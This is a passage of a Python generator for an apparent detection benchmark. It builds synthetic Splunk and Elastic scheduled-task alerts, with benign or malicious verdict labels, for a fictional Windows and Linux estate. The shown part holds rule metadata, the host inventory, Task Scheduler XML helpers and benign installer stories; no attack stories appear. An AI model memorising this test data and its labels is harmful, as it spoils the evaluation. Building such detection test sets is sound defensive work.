#!/usr/bin/env python3
"""Generate the Tunebench EVALUATION set (T1053 scheduled-task alerts, three weeks, one fictional estate).

Writes, next to this script:
  eval_splunk_notables.csv     Splunk ES Incident Review export (ESCU correlation searches)
  eval_elastic_alerts.ndjson   Elastic Security alert hits ({"_index","_id","_source"} per line)
  labels.csv                   verdict + LoFP note ids per record of the two files above

Standard library only, no network, fixed seed: two runs give byte-identical files.

The framework (event model, Task Scheduler XML, re-implemented rule logic, Splunk/Elastic renderers) is
the one of resources/demo/generate_demo.py. The estate (contoso-lab.example, ~60 hosts), the software,
the admins, the management tools and the attack stories are new and independent of the demo, and were
written from vendor documentation, field knowledge and public threat/adversary-emulation reports -- not
from the engine's evidence rules. One more ESCU search is enabled than in the demo (Svchost LOLBAS
Execution Process Spawn), and the Elastic "Suspicious Execution via Scheduled Task" / "A scheduled task
was created/updated" exclusions follow the published rule queries more closely.

Events are built per *story* (benign or malicious); a notable/alert exists only where the rule logic
fires. For benign stories the generator asserts that every rule that fires has an explicit note list and
that those note ids are carried by that rule (LoFP seed_map.json). Note ids are t1053-NN, NN = position in
the LoFP t1053 seed (line 6 of the seed = t1053-01).
"""

import base64
import csv
import fnmatch
import hashlib
import json
import os
import random
import shlex
import uuid
from datetime import datetime, timedelta, timezone
from xml.sax.saxutils import escape as xml_escape

SEED = 20270201
OUT_DIR = os.path.dirname(os.path.abspath(__file__))
TZ = timezone(timedelta(hours=-5))          # the SOC's zone (US Eastern, EST; no DST in February)
UTC = timezone.utc
DOMAIN = "contoso-lab.example"
NETBIOS = "CONTOSO"
SID_BASE = "S-1-5-21-1844237615-3892451072-2166573081"
START_DAY = datetime(2027, 2, 1, tzinfo=TZ)  # Monday; the set covers 2027-02-01 .. 2027-02-21
NDAYS = 21
PATCH_TUESDAY = 8                            # 2027-02-09

rng = random.Random(SEED)

def det_hex(*parts, n=32):
    return hashlib.sha256("|".join(str(p) for p in parts).encode()).hexdigest()[:n]


def det_uuid(*parts, upper=False):
    u = str(uuid.UUID(bytes=hashlib.md5("|".join(str(p) for p in parts).encode()).digest(), version=4))
    return u.upper() if upper else u


def det_guid_braced(*parts):
    return "{" + det_uuid(*parts, upper=True) + "}"




# ----------------------------------------------------------------------------------------------
# Knowledge: rules, and which LoFP t1053 notes each rule carries (from seed_map.json)
# ----------------------------------------------------------------------------------------------

# ESCU detections enabled as correlation searches: title -> (ESCU id, risk score, carried note ids)
SPLUNK_RULES = {
    "Windows Schtasks Create Run As System": ("41a0e58e-884c-11ec-9976-acde48001122", 48, [18]),
    "Windows Scheduled Task with Highest Privileges": ("2f15e1a4-0fc2-49dd-919e-cbbe60699218", 64, [15]),
    "Windows Scheduled Task Created Via XML": ("7e03b682-3965-4598-8e91-a60a40a3f7e4", 49, [21]),
    "Schtasks scheduling job on remote system": ("1297fb80-f42a-4b4a-9c8a-88c066237cf6", 63, [42]),
    "Scheduled Task Initiation on Remote Endpoint": ("95cf4608-4302-11ec-8194-3e22fbd008af", 54, [7]),
    "Schtasks Run Task On Demand": ("bb37061e-af1f-11eb-a159-acde48001122", 48, [10]),
    "Scheduled Task Creation on Remote Endpoint using At": ("4be54858-432f-11ec-8209-3e22fbd008af", 54, [6]),
    "Suspicious Scheduled Task from Public Directory": ("7feb7972-7ac3-11eb-bac8-acde48001122", 35, [37]),
    "Schtasks used for forcing a reboot": ("1297fb80-f42a-4b4a-9c8a-88c066437cf6", 56, [38]),
    "WinEvent Scheduled Task Created to Spawn Shell": ("203ef0ea-9bd8-11eb-8201-acde48001122", 70, [13]),
    "Schedule Task with HTTP Command Arguments": ("523c2684-a101-11eb-916b-acde48001122", 63, []),
    "Schedule Task with Rundll32 Command Trigger": ("75b00fd8-a0ff-11eb-8b31-acde48001122", 70, []),
    "Windows Hidden Schedule Task Settings": ("0b730470-5fe8-4b13-93a7-fe0ad014d0cc", 64, []),
    "Windows Enable Win32 ScheduledJob via Registry": ("12c80db8-ef62-4456-92df-b23e1b3219f6", 25, []),
    "Linux Add Files In Known Crontab Directories": ("023f3452-5f27-11ec-bf00-acde48001122", 25, [2]),
    "Linux Possible Append Cronjob Entry on Existing Cronjob File": ("b5b91200-5f27-11ec-bb4e-acde48001122", 49, [14]),
    "Linux Edit Cron Table Parameter": ("0d370304-5f26-11ec-a4bb-acde48001122", 9, [4]),
    "Linux Adding Crontab Using List Parameter": ("52f6d751-1fd4-4c74-a4c9-777ecfeb5c58", 25, [4]),
    "Linux Service File Created In Systemd Directory": ("c7495048-61b6-11ec-9a37-acde48001122", 64, [16]),
    "Linux Service Started Or Enabled": ("e0428212-61b7-11ec-88a3-acde48001122", 42, [5]),
    "Linux Service Restarted": ("084275ba-61b8-11ec-8d64-acde48001122", 25, [5]),
    "Linux At Application Execution": ("bf0a378e-5f3c-11ec-a6de-acde48001122", 9, [4]),
    "Kubernetes Cron Job Creation": ("5984dbe8-572f-47d7-9251-3dff6c3f0c0d", 49, []),
    # enabled in this SOC but not in the demo's:
    "Svchost LOLBAS Execution Process Spawn": ("09e5c72a-4c0d-11ec-aa29-3e22fbd008af", 54, [24]),
}

T_PERSIST = ("TA0003", "Persistence")
T_PRIVESC = ("TA0004", "Privilege Escalation")
T_EXEC = ("TA0002", "Execution")
T_LATERAL = ("TA0008", "Lateral Movement")
T_DEFEVA = ("TA0005", "Defense Evasion")
SUB = {
    "T1053.002": "At", "T1053.003": "Cron", "T1053.005": "Scheduled Task",
    "T1053.006": "Systemd Timers", "T1053.007": "Container Orchestration Job",
}

# Elastic prebuilt rules enabled: title -> metadata. fp = rule's false_positives text (verbatim),
# notes = LoFP t1053 notes carried by the rule.
ELASTIC_RULES = {
    "A scheduled task was created": dict(
        rule_id="92a6faf5-78ec-4e25-bea1-73bacc9b59d9", type="eql", version="214", severity="low", risk=21,
        fp=["Legitimate scheduled tasks may be created during installation of new software."], notes=[29],
        threat=[(T_PERSIST, "T1053.005")], tags=["Domain: Endpoint", "OS: Windows", "Use Case: Threat Detection",
                                               "Tactic: Persistence", "Data Source: Windows Security Event Logs"]),
    "A scheduled task was updated": dict(
        rule_id="a02cb68e-7c93-48d1-93b2-2c39023308eb", type="eql", version="212", severity="medium", risk=47,
        fp=["Legitimate scheduled tasks may be created during installation of new software."], notes=[29],
        threat=[(T_PERSIST, "T1053.005")], tags=["Domain: Endpoint", "OS: Windows", "Use Case: Threat Detection",
                                               "Tactic: Persistence", "Data Source: Windows Security Event Logs"]),
    "Remote Scheduled Task Creation via RPC": dict(
        rule_id="9c865691-5599-447a-bac9-b3f2df5f9a9d", type="eql", version="111", severity="medium", risk=47,
        fp=[], notes=[], threat=[(T_LATERAL, None), (T_PERSIST, "T1053.005")],
        tags=["Domain: Endpoint", "OS: Windows", "Use Case: Threat Detection", "Tactic: Lateral Movement",
              "Data Source: Windows Security Event Logs"]),
    "Temporarily Scheduled Task Creation": dict(
        rule_id="81ff45f8-f8c2-4e28-992e-5a0e8d98e0fe", type="eql", version="113", severity="medium", risk=47,
        fp=["Legitimate scheduled tasks may be created during installation of new software."], notes=[29],
        threat=[(T_PERSIST, "T1053.005")], tags=["Domain: Endpoint", "OS: Windows", "Use Case: Threat Detection",
                                               "Tactic: Persistence", "Data Source: Windows Security Event Logs"]),
    "Local Scheduled Task Creation": dict(
        rule_id="afcce5ad-65de-4ed2-8516-5e093d3ac99a", type="eql", version="216", severity="low", risk=21,
        fp=["Legitimate scheduled tasks may be created during installation of new software."], notes=[29],
        threat=[(T_PERSIST, "T1053.005")], tags=["Domain: Endpoint", "OS: Windows", "Use Case: Threat Detection",
                                               "Tactic: Persistence", "Data Source: Elastic Defend"]),
    "Suspicious Execution via Scheduled Task": dict(
        rule_id="5d1d6907-0747-4d5d-9b24-e4a18853dc0a", type="eql", version="214", severity="medium", risk=47,
        fp=["Legitimate scheduled tasks running third party software."], notes=[30],
        threat=[(T_PERSIST, "T1053.005"), (T_EXEC, "T1053.005")],
        tags=["Domain: Endpoint", "OS: Windows", "Use Case: Threat Detection", "Tactic: Persistence",
              "Tactic: Execution", "Data Source: Elastic Defend"]),
    "Scheduled Task Created by a Windows Script": dict(
        rule_id="689b9d57-e4d5-4357-ad17-9c334609d79a", type="eql", version="213", severity="medium", risk=47,
        fp=["Legitimate scheduled tasks may be created during installation of new software."], notes=[29],
        threat=[(T_PERSIST, "T1053.005"), (T_EXEC, None)],
        tags=["Domain: Endpoint", "OS: Windows", "Use Case: Threat Detection", "Tactic: Persistence",
              "Data Source: Elastic Defend"]),
    "Persistence via Scheduled Job Creation": dict(
        rule_id="1327384f-00f3-44d5-9a8c-2373ba071e92", type="eql", version="312", severity="medium", risk=47,
        fp=["Legitimate scheduled jobs may be created during installation of new software."], notes=[28],
        threat=[(T_PERSIST, "T1053.005")], tags=["Domain: Endpoint", "OS: Windows", "Use Case: Threat Detection",
                                               "Tactic: Persistence", "Data Source: Elastic Defend"]),
    "Scheduled Tasks AT Command Enabled": dict(
        rule_id="9aa0e1f6-52ce-42e1-abb3-09657cee2698", type="eql", version="211", severity="medium", risk=47,
        fp=[], notes=[], threat=[(T_DEFEVA, None), (T_EXEC, "T1053.002")],
        tags=["Domain: Endpoint", "OS: Windows", "Use Case: Threat Detection", "Tactic: Defense Evasion",
              "Data Source: Elastic Defend"]),
    "At.exe Command Lateral Movement": dict(
        rule_id="b483365c-98a8-40c0-92d8-0458ca25058a", type="eql", version="105", severity="low", risk=21,
        fp=[], notes=[], threat=[(T_LATERAL, None), (T_EXEC, "T1053.002")],
        tags=["Domain: Endpoint", "OS: Windows", "Use Case: Threat Detection", "Tactic: Lateral Movement",
              "Data Source: Elastic Defend"]),
    "Creation or Modification of a new GPO Scheduled Task or Service": dict(
        rule_id="c0429aa8-9974-42da-bfb6-53a0a515a145", type="eql", version="311", severity="low", risk=21,
        fp=[], notes=[], threat=[(T_PRIVESC, "T1053.005")],
        tags=["Domain: Endpoint", "OS: Windows", "Use Case: Threat Detection", "Tactic: Privilege Escalation",
              "Data Source: Active Directory", "Data Source: Elastic Defend"]),
    "Scheduled Task Execution at Scale via GPO": dict(
        rule_id="15a8ba77-1c13-4274-88fe-6bd14133861e", type="eql", version="213", severity="medium", risk=47,
        fp=[], notes=[], threat=[(T_PRIVESC, "T1053.005"), (T_LATERAL, None)],
        tags=["Domain: Endpoint", "OS: Windows", "Use Case: Threat Detection", "Tactic: Privilege Escalation",
              "Data Source: Active Directory", "Data Source: Windows Security Event Logs"]),
    "Cron Job Created or Modified": dict(
        rule_id="ff10d4d8-fea7-422d-afb1-e5a2702369a9", type="eql", version="112", severity="medium", risk=47,
        fp=[], notes=[], threat=[(T_PERSIST, "T1053.003"), (T_PRIVESC, "T1053.003"), (T_EXEC, "T1053.003")],
        tags=["Domain: Endpoint", "OS: Linux", "Use Case: Threat Detection", "Tactic: Persistence",
              "Data Source: Elastic Defend"]),
    "Systemd Timer Created": dict(
        rule_id="7fb500fa-8e24-4bd1-9480-2a819352602c", type="eql", version="109", severity="low", risk=21,
        fp=[], notes=[], threat=[(T_PERSIST, "T1053.006")],
        tags=["Domain: Endpoint", "OS: Linux", "Use Case: Threat Detection", "Tactic: Persistence",
              "Data Source: Elastic Defend"]),
    "At Job Created or Modified": dict(
        rule_id="84755a05-78c8-4430-8681-89cd6c857d71", type="eql", version="107", severity="medium", risk=47,
        fp=[], notes=[], threat=[(T_PERSIST, "T1053.002"), (T_EXEC, "T1053.002")],
        tags=["Domain: Endpoint", "OS: Linux", "Use Case: Threat Detection", "Tactic: Persistence",
              "Data Source: Elastic Defend"]),
    "Potential Persistence via Cron Job": dict(
        rule_id="b1c14366-f4f8-49a0-bcbb-51d2de8b0bb8", type="query", version="108", severity="low", risk=21,
        fp=["Legitimate software or scripts using cron jobs for recurring tasks."], notes=[32],
        threat=[(T_PERSIST, "T1053.003")], tags=["Domain: Endpoint", "OS: Linux", "Use Case: Threat Detection",
                                               "Tactic: Persistence", "Data Source: Elastic Defend"]),
    "Pod or Container Creation with Suspicious Command-Line": dict(
        rule_id="c595363f-52a6-49e1-9257-0e08ae043dbd", type="eql", version="4", severity="medium", risk=47,
        fp=[], notes=[], threat=[(T_EXEC, None), (T_PERSIST, "T1053.003"), (T_PRIVESC, None)],
        tags=["Domain: Endpoint", "Domain: Container", "OS: Linux", "Use Case: Threat Detection",
              "Tactic: Execution", "Data Source: Elastic Defend"]),
}
TACTIC_TECH = {"TA0008": ("T1021", "Remote Services"), "TA0005": ("T1562", "Impair Defenses"),
               "TA0002": ("T1059", "Command and Scripting Interpreter"), "TA0004": ("T1484", "Domain or Tenant Policy Modification")}



# ----------------------------------------------------------------------------------------------
# The estate: contoso-lab.example
# ----------------------------------------------------------------------------------------------

WKS_PLAN = [  # (host, primary user, OS, hardware vendor)
    ("lap-sales-01", "bgreen", "Windows 11 Enterprise", "hp"), ("lap-sales-02", "hsato", "Windows 11 Enterprise", "hp"),
    ("lap-sales-03", "omensah", "Windows 11 Enterprise", "hp"), ("lap-sales-04", "vkowalski", "Windows 10 Enterprise", "hp"),
    ("lap-sales-05", "dnakamura", "Windows 11 Enterprise", "hp"), ("lap-sales-06", "cfarah", "Windows 11 Enterprise", "hp"),
    ("lap-eng-01", "ppatel", "Windows 11 Enterprise", "dell"), ("lap-eng-02", "lchen", "Windows 11 Enterprise", "dell"),
    ("lap-eng-03", "mschmidt", "Windows 11 Enterprise", "dell"), ("lap-eng-04", "rdiaz", "Windows 11 Enterprise", "dell"),
    ("lap-eng-05", "jkim", "Windows 10 Enterprise", "dell"), ("lap-eng-06", "tnguyen", "Windows 11 Enterprise", "dell"),
    ("lap-eng-07", "aokafor", "Windows 11 Enterprise", "dell"), ("lap-eng-08", "sbaker", "Windows 11 Enterprise", "dell"),
    ("desk-fin-01", "kmurphy", "Windows 11 Enterprise", "dell"), ("desk-fin-02", "ejohansson", "Windows 10 Enterprise", "dell"),
    ("desk-fin-03", "wli", "Windows 11 Enterprise", "dell"), ("desk-fin-04", "fgarcia", "Windows 11 Enterprise", "dell"),
    ("desk-fin-05", "ahassan", "Windows 10 Enterprise", "dell"),
    ("lap-legal-01", "nmorgan", "Windows 11 Enterprise", "hp"), ("lap-legal-02", "gricci", "Windows 11 Enterprise", "hp"),
    ("lap-legal-03", "ydavis", "Windows 11 Enterprise", "hp"),
    ("lap-sup-01", "ktaylor", "Windows 11 Enterprise", "dell"), ("lap-sup-02", "swong", "Windows 11 Enterprise", "dell"),
    ("lap-sup-03", "eclark", "Windows 10 Enterprise", "dell"), ("lap-sup-04", "jmorales", "Windows 11 Enterprise", "dell"),
    ("lap-sup-05", "rbose", "Windows 11 Enterprise", "dell"), ("lap-sup-06", "mlopez", "Windows 11 Enterprise", "dell"),
    ("desk-lab-01", "iyusuf", "Windows 11 Pro for Workstations", "amd"),
    ("desk-lab-02", "zwhite", "Windows 11 Pro for Workstations", "amd"),
    ("lap-exec-01", "cevans", "Windows 11 Enterprise", "hp"), ("lap-exec-02", "hwalker", "Windows 11 Enterprise", "hp"),
    ("lap-it-01", "rvasquez", "Windows 11 Enterprise", "dell"), ("lap-it-02", "okim", "Windows 11 Enterprise", "dell"),
]

USERS = [u for _, u, _, _ in WKS_PLAN] + ["adm_rvasquez", "adm_okim", "adm_tpetrov", "svc_sqlbackup", "svc_pdq",
                                           "svc_maint", "tpetrov"]
USER_RID = {u: 1400 + 7 * i + (i * i) % 5 for i, u in enumerate(USERS)}


def usid(name):
    return "%s-%d" % (SID_BASE, USER_RID[name])


HOSTS = {}
LINUX_OS = {"ubuntu": ("Ubuntu", "debian", "22.04.5"), "rocky": ("Rocky Linux", "rhel", "9.5"),
            "debian": ("Debian GNU/Linux", "debian", "12")}


def _host(name, kind, os_name, ip, primary=None, family=None, vendor=None):
    HOSTS[name] = dict(name=name, fqdn=name + "." + DOMAIN, kind=kind, os_name=os_name, ip=ip, primary=primary,
                       id=det_uuid("contoso-host", name), family=family or "windows", vendor=vendor)


for i, (n, u, osn, vendor) in enumerate(WKS_PLAN):
    _host(n, "wks", osn, "10.40.%d.%d" % (12 + i // 12, 31 + (i % 12) * 7), primary=u, vendor=vendor)
_host("adm-jump-01", "jump", "Windows Server 2022 Standard", "10.40.5.21")
_host("adm-jump-02", "jump", "Windows Server 2022 Standard", "10.40.5.22")
for n, ip, osn in [("fs-01", "10.40.20.31", "Windows Server 2019 Standard"),
                   ("app-erp-01", "10.40.20.41", "Windows Server 2022 Standard"),
                   ("app-erp-02", "10.40.20.42", "Windows Server 2022 Standard"),
                   ("sql-01", "10.40.20.51", "Windows Server 2022 Standard"),
                   ("sql-02", "10.40.20.52", "Windows Server 2019 Standard"),
                   ("web-iis-01", "10.40.21.11", "Windows Server 2019 Standard"),
                   ("print-01", "10.40.20.61", "Windows Server 2016 Standard"),
                   ("cm-site-01", "10.40.20.71", "Windows Server 2022 Standard"),
                   ("pdq-01", "10.40.20.72", "Windows Server 2022 Standard"),
                   ("rds-01", "10.40.20.81", "Windows Server 2022 Datacenter")]:
    _host(n, "server", osn, ip)
_host("cl-dc01", "dc", "Windows Server 2022 Datacenter", "10.40.20.10")
_host("cl-dc02", "dc", "Windows Server 2022 Datacenter", "10.40.20.11")
for n, ip, fam in [("lnx-web-01", "10.40.30.11", "ubuntu"), ("lnx-web-02", "10.40.30.12", "ubuntu"),
                   ("lnx-web-03", "10.40.30.13", "ubuntu"), ("lnx-ci-01", "10.40.30.21", "ubuntu"),
                   ("lnx-bastion-01", "10.40.30.5", "ubuntu"), ("lnx-db-01", "10.40.30.31", "rocky"),
                   ("lnx-db-02", "10.40.30.32", "rocky"), ("lnx-mon-01", "10.40.30.41", "rocky"),
                   ("lnx-files-01", "10.40.30.51", "debian"), ("lnx-proxy-01", "10.40.30.61", "debian")]:
    _host(n, "linux", LINUX_OS[fam][0], ip, family=fam)

WKS = [h for h in HOSTS if HOSTS[h]["kind"] == "wks"]
WIN_SERVERS = ["fs-01", "app-erp-01", "app-erp-02", "sql-01", "sql-02", "web-iis-01", "print-01", "cm-site-01",
               "pdq-01", "rds-01"]
LINUX = [h for h in HOSTS if HOSTS[h]["kind"] == "linux"]
DEB_LINUX = [h for h in LINUX if HOSTS[h]["family"] in ("ubuntu", "debian")]
RPM_LINUX = [h for h in LINUX if HOSTS[h]["family"] == "rocky"]
JUMP = ["adm-jump-01", "adm-jump-02"]
ADMINS = ["adm_rvasquez", "adm_okim", "adm_tpetrov"]

SYSTEM = ("NT AUTHORITY", "SYSTEM", "S-1-5-18")


def duser(name):
    return (NETBIOS, name, usid(name))


def machine(host):
    return (NETBIOS, host.upper() + "$", "S-1-5-18")


def prim(host):
    return HOSTS[host]["primary"]


def lin_uid(user):
    return {"root": "0", "www-data": "33", "nobody": "65534"}.get(user, str(1000 + (USER_RID.get(user, 77) % 400)))


# ----------------------------------------------------------------------------------------------
# Time helpers
# ----------------------------------------------------------------------------------------------

def at(day, hh, mm, ss=None):
    """Local (TZ) event time on day 0..NDAYS-1 with random seconds/milliseconds."""
    if ss is None:
        ss = rng.randrange(60)
    return START_DAY + timedelta(days=day, hours=hh, minutes=mm, seconds=ss, milliseconds=rng.randrange(1000))


def work_time(day):
    return at(day, rng.randrange(8, 17), rng.randrange(60))


def weekdays():
    return [d for d in range(NDAYS) if (START_DAY + timedelta(days=d)).weekday() < 5]


def fmt_splunk(dt):
    dt = dt.astimezone(TZ)
    off = int(TZ.utcoffset(None).total_seconds() // 60)
    sign = "-" if off < 0 else "+"
    return dt.strftime("%Y-%m-%dT%H:%M:%S.") + "%03d%s%02d:%02d" % (dt.microsecond // 1000, sign, abs(off) // 60, abs(off) % 60)


def fmt_z(dt):
    dt = dt.astimezone(UTC)
    return dt.strftime("%Y-%m-%dT%H:%M:%S.") + "%03dZ" % (dt.microsecond // 1000)


def fmt_task_date(dt):
    dt = dt.astimezone(TZ)
    return dt.strftime("%Y-%m-%dT%H:%M:%S.") + "%07d" % (dt.microsecond * 10 + rng.randrange(10))


def win_pid():
    return rng.randrange(600, 16000) // 4 * 4


def lin_pid():
    return rng.randrange(1200, 480000)


# ----------------------------------------------------------------------------------------------
# Task Scheduler XML (TaskContent), CRLF line ends like the real 4698 payload
# ----------------------------------------------------------------------------------------------

def trig_logon(user_id=None):
    t = ["    <LogonTrigger>", "      <Enabled>true</Enabled>"]
    if user_id:
        t.append("      <UserId>%s</UserId>" % xml_escape(user_id))
    return t + ["    </LogonTrigger>"]


def trig_boot():
    return ["    <BootTrigger>", "      <Enabled>true</Enabled>", "    </BootTrigger>"]


def trig_daily(start):
    return ["    <CalendarTrigger>", "      <StartBoundary>%s</StartBoundary>" % start, "      <Enabled>true</Enabled>",
            "      <ScheduleByDay>", "        <DaysInterval>1</DaysInterval>", "      </ScheduleByDay>",
            "    </CalendarTrigger>"]


def trig_weekly(start, day):
    return ["    <CalendarTrigger>", "      <StartBoundary>%s</StartBoundary>" % start, "      <Enabled>true</Enabled>",
            "      <ScheduleByWeek>", "        <DaysOfWeek>", "          <%s />" % day, "        </DaysOfWeek>",
            "        <WeeksInterval>1</WeeksInterval>", "      </ScheduleByWeek>", "    </CalendarTrigger>"]


def trig_once(start):
    return ["    <TimeTrigger>", "      <StartBoundary>%s</StartBoundary>" % start, "      <Enabled>true</Enabled>",
            "    </TimeTrigger>"]


def trig_repeat(start, interval):
    return ["    <TimeTrigger>", "      <Repetition>", "        <Interval>%s</Interval>" % interval,
            "        <StopAtDurationEnd>false</StopAtDurationEnd>", "      </Repetition>",
            "      <StartBoundary>%s</StartBoundary>" % start, "      <Enabled>true</Enabled>", "    </TimeTrigger>"]


def task_xml(when, author, uri, triggers, command, arguments=None, workdir=None, user_id=None, group_id=None,
             logon_type="InteractiveToken", run_level="LeastPrivilege", hidden=False, description=None,
             principal_id="Author"):
    x = xml_escape
    L = ['<?xml version="1.0" encoding="UTF-16"?>',
         '<Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">',
         "  <RegistrationInfo>", "    <Date>%s</Date>" % fmt_task_date(when)]
    if author:
        L.append("    <Author>%s</Author>" % x(author))
    if description:
        L.append("    <Description>%s</Description>" % x(description))
    L += ["    <URI>%s</URI>" % x(uri), "  </RegistrationInfo>", "  <Triggers>"]
    for t in triggers:
        L += t
    L += ["  </Triggers>", "  <Principals>", '    <Principal id="%s">' % principal_id]
    if group_id:
        L.append("      <GroupId>%s</GroupId>" % x(group_id))
    else:
        L.append("      <UserId>%s</UserId>" % x(user_id))
        if logon_type:
            L.append("      <LogonType>%s</LogonType>" % logon_type)
    L += ["      <RunLevel>%s</RunLevel>" % run_level, "    </Principal>", "  </Principals>", "  <Settings>",
          "    <MultipleInstancesPolicy>IgnoreNew</MultipleInstancesPolicy>",
          "    <DisallowStartIfOnBatteries>false</DisallowStartIfOnBatteries>",
          "    <StopIfGoingOnBatteries>false</StopIfGoingOnBatteries>",
          "    <StartWhenAvailable>true</StartWhenAvailable>", "    <Enabled>true</Enabled>",
          "    <Hidden>%s</Hidden>" % ("true" if hidden else "false"),
          "    <ExecutionTimeLimit>PT72H</ExecutionTimeLimit>", "    <Priority>7</Priority>", "  </Settings>",
          '  <Actions Context="%s">' % principal_id, "    <Exec>", "      <Command>%s</Command>" % x(command)]
    if arguments:
        L.append("      <Arguments>%s</Arguments>" % x(arguments))
    if workdir:
        L.append("      <WorkingDirectory>%s</WorkingDirectory>" % x(workdir))
    L += ["    </Exec>", "  </Actions>", "</Task>"]
    return "\r\n".join(L)


def boundary(dt, hh, mm, add_days=1):
    d = (dt.astimezone(TZ) + timedelta(days=add_days)).replace(hour=hh, minute=mm, second=0, microsecond=0)
    return d.strftime("%Y-%m-%dT%H:%M:%S")


def ps_enc(script):
    return base64.b64encode(script.encode("utf-16-le")).decode()


# ----------------------------------------------------------------------------------------------
# Events
# ----------------------------------------------------------------------------------------------

EVENTS = []


def story(verdict, scenario, notes=None):
    """notes: {rule title: [note ids]} for every rule expected to fire on a benign event."""
    return dict(verdict=verdict, scenario=scenario, notes=notes or {})


def benign(scenario, **by_rule):
    return story("benign", scenario, {k.replace("_", " "): v for k, v in by_rule.items()})


def bad(scenario):
    return story("malicious", scenario)


def emit(ev, st):
    ev["story"] = st
    ev["seq"] = len(EVENTS)
    EVENTS.append(ev)
    return ev


def proc(host, when, user, image, cmdline, parent_image, parent_cmdline, integrity="high", parent_trusted=True,
         parent_signer="Microsoft Windows", original=None, pid=None, ppid=None, cwd=None, parent_user_sid=None):
    return dict(kind="proc", host=host, time=when, user=user, image=image, name=image.split("\\")[-1],
                cmdline=cmdline, parent_image=parent_image, parent_name=parent_image.split("\\")[-1],
                parent_cmdline=parent_cmdline, integrity=integrity, parent_trusted=parent_trusted,
                parent_signer=parent_signer, original=original or image.split("\\")[-1],
                pid=pid or win_pid(), ppid=ppid or win_pid(), cwd=cwd)


def task4698(host, when, subject, task_name, content, remote=False, code=4698):
    return dict(kind=str(code), host=host, time=when, subject=subject, task_name=task_name, content=content,
                client_pid="0" if remote else str(win_pid()), parent_pid="0" if remote else str(win_pid()),
                logon_id="0x3e7" if subject[2] == "S-1-5-18" else "0x%x" % rng.randrange(0x100000, 0xffffff),
                record_id=str(rng.randrange(80000, 9000000)))


def lproc(host, when, user, image, cmdline, parent_image, parent_cmdline, uid=None, pid=None, ppid=None, name=None):
    return dict(kind="lproc", host=host, time=when, user=user, uid=uid if uid is not None else lin_uid(user),
                image=image, name=name or image.split("/")[-1], cmdline=cmdline, parent_image=parent_image,
                parent_name=parent_image.split("/")[-1], parent_cmdline=parent_cmdline, pid=pid or lin_pid(),
                ppid=ppid or lin_pid())


def lfile(host, when, user, path, image, cmdline, parent_image, parent_cmdline=None, action="creation", uid=None,
          name=None):
    return dict(kind="lfile", host=host, time=when, user=user, uid=uid if uid is not None else lin_uid(user),
                path=path, action=action, image=image, name=name or image.split("/")[-1], cmdline=cmdline,
                parent_image=parent_image, parent_name=parent_image.split("/")[-1], parent_cmdline=parent_cmdline,
                pid=lin_pid(), ppid=lin_pid())


def wfile(host, when, user, path, image, pid=None):
    return dict(kind="wfile", host=host, time=when, user=user, path=path, image=image,
                name=image.split("\\")[-1] if image else "System", pid=pid or win_pid())


def k8s(when, user, src_ip, ua, ns, name, schedule, image, command, groups):
    return dict(kind="k8s", host=None, time=when, user=user, src_ip=src_ip, ua=ua, ns=ns, name=name,
                schedule=schedule, image=image, command=command, groups=groups,
                audit_id=det_uuid("audit", ns, name, when.isoformat()))




# ---------------------------------------------------------------- common paths

PS = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
SCHT = "C:\\Windows\\System32\\schtasks.exe"
CMD = "C:\\Windows\\System32\\cmd.exe"
SVCHOST = "C:\\Windows\\System32\\svchost.exe"
SCHED_SVC = "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule"


def scheduled_run(host, when, user, image, cmdline, original=None, integrity="medium"):
    """A process started by the Task Scheduler service (child of svchost -s Schedule)."""
    return proc(host, when, user, image, cmdline, SVCHOST, SCHED_SVC, integrity=integrity, original=original,
                cwd="C:\\Windows\\system32\\")


def later(t, lo_ms=80, hi_ms=600):
    return t + timedelta(milliseconds=rng.randrange(lo_ms, hi_ms))


# ---------------------------------------------------------------- benign: vendor installers / updaters (Windows)

def b_brave(host, day):
    """Brave's Omaha-based installer unpacks to %TEMP%\\GUM*.tmp and registers two machine tasks via COM."""
    u = prim(host)
    t = work_time(day)
    sc = "Brave installer (Omaha, %TEMP%\\GUM*.tmp\\BraveUpdate.exe) registers machine updater tasks Core/UA"
    for i, (kind, args) in enumerate((("Core", "/c"), ("UA", "/ua /installsource scheduler"))):
        name = "\\BraveSoftwareUpdateTaskMachine%s%s" % (kind, det_guid_braced("brave", host, kind))
        trig = [trig_logon(), trig_daily(boundary(t, t.hour, t.minute, 0))] if kind == "Core" else \
            [trig_repeat(boundary(t, t.hour, t.minute, 0), "PT1H")]
        x = task_xml(t, None, name, trig, '"C:\\Program Files (x86)\\BraveSoftware\\Update\\BraveUpdate.exe"', args,
                     user_id="S-1-5-18", logon_type="ServiceAccount", run_level="HighestAvailable",
                     description="Keeps your Brave software up to date. If this task is disabled or stopped, your "
                                 "Brave software will not be kept up to date.")
        emit(task4698(host, t + timedelta(milliseconds=300 + 900 * i), duser(u), name, x),
             benign(sc, A_scheduled_task_was_created=[29]))


def b_edge_machine(host, day):
    """Microsoft Edge (or WebView2) stand-alone installer run elevated by the user: the Omaha-based MicrosoftEdgeUpdate
    unpacks to %TEMP%\EU*.tmp and registers the machine-wide Core/UA tasks."""
    u = prim(host)
    t = work_time(day)
    sc = "Microsoft Edge installer (%TEMP%\EU*.tmp\MicrosoftEdgeUpdate.exe) registers MicrosoftEdgeUpdateTaskMachine Core/UA"
    for i, (kind, args) in enumerate((("Core", "/c"), ("UA", "/ua /installsource scheduler"))):
        name = "\\MicrosoftEdgeUpdateTaskMachine%s%s" % (kind, det_guid_braced("edgem", host, kind))
        trig = [trig_logon(), trig_daily(boundary(t, t.hour, t.minute, 0))] if kind == "Core" else \
            [trig_repeat(boundary(t, t.hour, t.minute, 0), "PT1H")]
        x = task_xml(t, None, name, trig, '"C:\\Program Files (x86)\\Microsoft\\EdgeUpdate\\MicrosoftEdgeUpdate.exe"',
                     args, user_id="S-1-5-18", logon_type="ServiceAccount", run_level="HighestAvailable",
                     description="Keeps your Microsoft software up to date. If this task is disabled or stopped, your "
                                 "Microsoft software will not be kept up to date, meaning security vulnerabilities that "
                                 "may arise cannot be fixed and features may not work.")
        emit(task4698(host, t + timedelta(milliseconds=250 + 700 * i), duser(u), name, x),
             benign(sc, A_scheduled_task_was_created=[29]))


NV_GUID = "{B2FE1952-0186-46C3-BAEC-A80AA35AC5B8}"


def b_nvidia(host, day):
